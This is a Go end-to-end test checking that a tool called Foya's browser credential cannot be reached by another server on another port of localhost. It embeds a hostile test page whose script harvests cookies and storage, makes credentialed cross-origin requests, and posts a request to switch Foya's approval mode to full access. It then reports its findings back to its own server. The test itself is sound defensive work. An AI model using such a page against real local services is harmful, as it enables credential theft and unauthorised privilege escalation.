package e2e

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// TestBrowserCredentialReachesNoOtherServer: after the Foya page was opened
// with the token link in Chromium, another web server on another port of
// 127.0.0.1 (a dev server, a compromised tool, another user's) gets no
// Foya credential: not as a cookie on its own page's requests (cookies are
// not scoped to a port), not in its page's reach (document.cookie, its
// storage), not by asking Foya's API with the browser's credentials, not
// through a frame of Foya's page. And the default approval mode is still
// what it was (the attack it would enable is SetDefaultMode(full-access)).
func TestBrowserCredentialReachesNoOtherServer(t *testing.T) {
	requireE2E(t)
	bin := buildFoya(t)
	srv := startServe(t, bin)
	var before string
	srv.call(t, &before, "DefaultMode")

	type request struct {
		line   string
		header http.Header
		body   string
	}
	var (
		mu   sync.Mutex
		seen []request
	)
	page := fmt.Sprintf(otherPage, srv.base)
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		seen = append(seen, request{line: r.Method + " " + r.URL.String(), header: r.Header.Clone(), body: string(body)})
		mu.Unlock()
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, page)
		case "/report":
			w.WriteHeader(http.StatusNoContent)
		default:
			http.NotFound(w, r)
		}
	}))
	defer other.Close()
	if !strings.HasPrefix(other.URL, "http://127.0.0.1:") || other.URL == srv.base {
		t.Fatalf("the other server is at %s; want another port of 127.0.0.1 than %s", other.URL, srv.base)
	}

	runScript(t, "credential.mjs", map[string]string{
		"FOYA_URL":   srv.url,
		"FOYA_OTHER": other.URL,
	})

	mu.Lock()
	defer mu.Unlock()
	var reports int
	for _, r := range seen {
		var dump bytes.Buffer
		r.header.Write(&dump)
		t.Logf("the other server got %s\n%s%s", r.line, dump.String(), r.body)
		if strings.Contains(r.line+dump.String()+r.body, srv.token) {
			t.Errorf("the other server got Foya's token in %s", r.line)
		}
		if c := r.header.Get("Cookie"); c != "" {
			t.Errorf("the other server got the cookie %q with %s; want none", c, r.line)
		}
		if strings.HasPrefix(r.line, "POST /report") {
			reports++
		}
	}
	if reports != 2 {
		t.Fatalf("the other server's page reported %d times; want twice (a new tab, the Foya tab sent there)", reports)
	}
	var after string
	srv.call(t, &after, "DefaultMode")
	if after != before {
		t.Fatalf("DefaultMode = %q after the other page's attempts; want %q as before", after, before)
	}
	srv.stop(t)
}

// otherPage is the other server's page (%s: Foya's base URL): it reports
// to its own server what it can reach of Foya's credential.
const otherPage = `<!doctype html>
<html><head><meta charset="utf-8"><title>other</title></head>
<body>
<img src="/pixel.png" alt="">
<iframe id="foya" src="%[1]s/"></iframe>
<script>
(async () => {
  const foya = %[1]q;
  const found = {
    cookie: document.cookie,
    sessionStorage: JSON.stringify({ ...sessionStorage }),
    localStorage: JSON.stringify({ ...localStorage }),
    name: window.name,
    referrer: document.referrer,
  };
  try {
    const r = await fetch(foya + '/api/sessions', { credentials: 'include' });
    found.read = r.status + ' ' + (await r.text());
  } catch (e) {
    found.read = 'refused: ' + e.message;
  }
  try {
    await fetch(foya + '/api/call/SetDefaultMode', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '["full-access"]' });
    found.write = 'sent';
  } catch (e) {
    found.write = 'refused: ' + e.message;
  }
  try {
    const d = document.getElementById('foya').contentDocument;
    found.frame = d === null ? 'no access' : d.documentElement.outerHTML;
  } catch (e) {
    found.frame = 'refused: ' + e.message;
  }
  await fetch('/report', { method: 'POST', body: JSON.stringify(found) });
  document.title = 'reported';
})();
</script>
</body></html>
`
